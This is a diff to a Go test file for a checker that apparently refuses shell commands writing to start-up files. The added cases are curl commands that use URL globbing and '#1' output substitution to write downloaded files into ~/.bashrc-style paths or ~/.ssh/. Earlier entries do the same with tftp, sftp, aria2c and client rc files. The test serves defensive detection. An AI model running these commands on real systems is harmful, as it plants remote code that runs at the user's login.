@@ -76,6 +76,8 @@ func TestScriptedTransferClients(t *testing.T) {
 		"tftp host", "tftp host < cmds", "sftp -b batch host", "sftp host", "sftp -b - host <<EOF\nget x .bashrc\nEOF",
 		"aria2c http://h/x", "aria2c -i list", "aria2c -o .bashrc http://h/x",
 		"rsync rsync://host/mod/ .", "scp -T host:x .",
+		`curl 'http://h/{rc,y}' -o "$HOME/.bash#1"`, `curl 'http://h/[a-z]' -o ~/.ssh/#1`, `cd ~ && curl 'http://h/{a,b}' -o '.#1'`,
+		`curl -o "$HOME/.bash#1" 'http://h/{rc}'`, `curl 'http://h/{rc,y}' --output "$HOME/.bash#1"`,
 		// The clients' own start-up files run commands.
 		"echo '!sh x' > ~/.lftprc", "cp x ~/.lftp/rc", "cp x ~/.config/lftp/rc", "cp x ~/.aria2/aria2.conf",
 		"cp x ~/.config/aria2/aria2.conf",
@@ -127,7 +129,7 @@ func TestTransferAndRepositoryOrdinaryLines(t *testing.T) {
 		"git init /tmp/repo", "git init ~/project", "git -C /srv init", "git clone host:r /tmp/w",
 		"cd /tmp/w && git init", "systemctl enable nginx", "systemctl --user status x", "loginctl list-sessions",
 		"grep -o foo ~/.bashrc", "egrep -o 'a.*' ~/.bashrc", "fgrep -o x ~/.profile", "rg -o foo ~/.bashrc",
-		"grep -oE x ~/.bashrc", "wget -nd http://h/x",
+		"grep -oE x ~/.bashrc", "wget -nd http://h/x", `curl 'http://h/x[1-9].log' -o '/tmp/w/#1.log'`,
 	} {
 		if w, ok := startupVerdict(t, line); ok {
 			t.Errorf("%s: refused (%s)", line, w)
